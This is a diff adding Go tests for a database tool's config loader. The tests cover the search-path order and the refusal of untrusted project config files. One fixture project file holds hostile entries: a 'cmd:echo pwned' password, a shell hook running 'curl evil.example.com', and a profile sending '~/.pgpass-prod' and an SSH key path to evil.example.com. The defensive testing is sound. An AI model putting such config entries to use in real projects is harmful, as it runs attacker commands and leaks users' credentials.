@@ -0,0 +1,170 @@
+package config
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestConfigSearchPath(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, "xdg"))
+	t.Setenv(ConfigEnv, "")
+
+	repo := t.TempDir()
+	work := filepath.Join(repo, "services", "api")
+	for _, dir := range []string{filepath.Join(repo, ".git"), work, filepath.Join(home, ".pgtransfer"), filepath.Join(home, "xdg", "pgtransfer")} {
+		if err := os.MkdirAll(dir, 0755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	files := map[string]string{
+		filepath.Join(repo, ProjectConfigName):                  "active_profile: shared\nprofiles:\n  shared: {host: repo-db, user: app}\n  api: {host: repo-api}\ngroups:\n  team: [shared, api]\n",
+		filepath.Join(work, ProjectConfigName):                  "profiles:\n  api: {host: api-db, database: api}\n",
+		filepath.Join(home, "xdg", "pgtransfer", "config.yaml"): "profiles:\n  xdg-only: {host: xdg-db}\n",
+		filepath.Join(home, ".pgtransfer", "config.yaml"):       "active_profile: mine\nprofiles:\n  mine: {extends: shared, database: mine}\n  api: {host: home-api}\n",
+	}
+	for path, data := range files {
+		if err := os.WriteFile(path, []byte(data), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Chdir(work)
+
+	var origins []string
+	for _, s := range SearchPath() {
+		origins = append(origins, s.Origin)
+	}
+	if got := strings.Join(origins, ","); got != "project,project,XDG,home" {
+		t.Errorf("search path origins = %s", got)
+	}
+
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Profiles["api"].Host != "api-db" || cfg.Source("api") != filepath.Join(work, ProjectConfigName) {
+		t.Errorf("api = %+v from %s", cfg.Profiles["api"], cfg.Source("api"))
+	}
+	if len(cfg.Shadowed("api")) != 2 {
+		t.Errorf("api shadowed = %v", cfg.Shadowed("api"))
+	}
+	// Profiles can extend profiles from other files
+	if mine := cfg.Profiles["mine"]; mine.Host != "repo-db" || mine.User != "app" || mine.Database != "mine" {
+		t.Errorf("mine = %+v", mine)
+	}
+	if cfg.ActiveProfile != "mine" {
+		t.Errorf("active profile = %s", cfg.ActiveProfile)
+	}
+	if _, ok := cfg.Profiles["xdg-only"]; !ok {
+		t.Error("XDG profile not loaded")
+	}
+
+	// Saving writes only the home file's profiles, and refuses changes to shared ones
+	if err := SaveConfig(cfg); err != nil {
+		t.Fatal(err)
+	}
+	data, _ := os.ReadFile(filepath.Join(home, ".pgtransfer", "config.yaml"))
+	if strings.Contains(string(data), "shared:") || strings.Contains(string(data), "team") || !strings.Contains(string(data), "extends: shared") {
+		t.Errorf("home config after save:\n%s", data)
+	}
+	shared := cfg.Profiles["shared"]
+	shared.Port = 6432
+	cfg.Profiles["shared"] = shared
+	if err := SaveConfig(cfg); err == nil {
+		t.Error("expected an error changing a profile from the project file")
+	}
+
+	// --config is read first and saved to
+	t.Setenv(ConfigEnv, filepath.Join(home, "ci.yaml"))
+	if path := ConfigPath(); path != filepath.Join(home, "ci.yaml") {
+		t.Errorf("ConfigPath = %s", path)
+	}
+	SetConfigFile(filepath.Join(repo, ProjectConfigName))
+	t.Cleanup(func() { SetConfigFile("") })
+	if sp := SearchPath(); sp[0].Origin != "--config" || sp[1].Origin != ConfigEnv || len(sp) != 5 {
+		t.Errorf("search path with --config = %+v", sp)
+	}
+}
+
+func TestUntrustedProjectFile(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, "xdg"))
+	t.Setenv(ConfigEnv, "")
+
+	repo := t.TempDir()
+	for _, dir := range []string{filepath.Join(repo, ".git"), filepath.Join(home, ".pgtransfer")} {
+		if err := os.MkdirAll(dir, 0755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	project := "trusted_projects: [.]\nprofiles:\n  shared: {host: repo-db, password: 'cmd:echo pwned'}\n  api: {host: repo-api}\n  notify: {host: repo-db, hooks: {post_migrate: [{shell: 'curl evil.example.com'}]}}\n" +
+		"  stolen: {host: evil.example.com, password: 'file:~/.pgpass-prod', ssh: {enabled: true, host: bastion, user: me, key_path: ~/.ssh/id_ed25519}}\n" +
+		"  literal: {host: repo-db, password: 'plain:file:not-a-reference'}\n"
+	if err := os.WriteFile(filepath.Join(repo, ProjectConfigName), []byte(project), 0600); err != nil {
+		t.Fatal(err)
+	}
+	homeConfig := filepath.Join(home, ".pgtransfer", "config.yaml")
+	writeHome := func(data string) {
+		if err := os.WriteFile(homeConfig, []byte(data), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	writeHome("profiles:\n  api: {host: home-api}\n  mine: {extends: shared, database: mine}\n")
+	t.Chdir(repo)
+
+	// Neither the project profile nor one extending it may run its command
+	for _, name := range []string{"shared", "mine"} {
+		if _, err := LookupProfile(name); err == nil || !strings.Contains(err.Error(), "a cmd: reference in password from "+filepath.Join(repo, ProjectConfigName)+", which is not trusted") {
+			t.Errorf("%s: err = %v", name, err)
+		}
+	}
+	if _, err := LookupProfile("notify"); err == nil || !strings.Contains(err.Error(), "uses shell hooks from") {
+		t.Errorf("notify: err = %v", err)
+	}
+	if _, err := LookupProfile("stolen"); err == nil || !strings.Contains(err.Error(), "uses a file: reference in password, local files in ssh.key_path from") {
+		t.Errorf("stolen: err = %v", err)
+	}
+	if _, err := LookupProfile("literal"); err != nil {
+		t.Errorf("literal: %v", err)
+	}
+	if api, err := LookupProfile("api"); err != nil || api.Host != "repo-api" {
+		t.Errorf("api = %+v, err = %v", api, err)
+	}
+
+	var got []string
+	for _, p := range CheckConfig() {
+		got = append(got, fmt.Sprintf("%s %v %s", p.Profile, p.Warning, strings.SplitN(p.Message, " from ", 2)[0]))
+	}
+	want := []string{
+		"api true shadows the profile of the same name in " + homeConfig,
+		"mine false uses a cmd: reference in password",
+		"notify false uses shell hooks",
+		"shared false uses a cmd: reference in password",
+		"stolen false uses a file: reference in password, local files in ssh.key_path",
+	}
+	slices.Sort(got)
+	if !slices.Equal(got, want) {
+		t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+
+	// Trusting the directory from the home config allows it, and is kept when saving
+	writeHome("trusted_projects: [" + repo + "]\nprofiles:\n  mine: {extends: shared, database: mine}\n")
+	if mine, err := LookupProfile("mine"); err != nil || mine.Password != "cmd:echo pwned" {
+		t.Errorf("trusted: mine = %+v, err = %v", mine, err)
+	}
+	if _, err := LookupProfile("notify"); err != nil {
+		t.Errorf("trusted: notify: %v", err)
+	}
+	if err := UpdateConfig(func(cfg *ConfigFile) error { cfg.ActiveProfile = "mine"; return nil }); err != nil {
+		t.Fatal(err)
+	}
+	if data, _ := os.ReadFile(homeConfig); !strings.Contains(string(data), "trusted_projects:") {
+		t.Errorf("home config after save:\n%s", data)
+	}
+}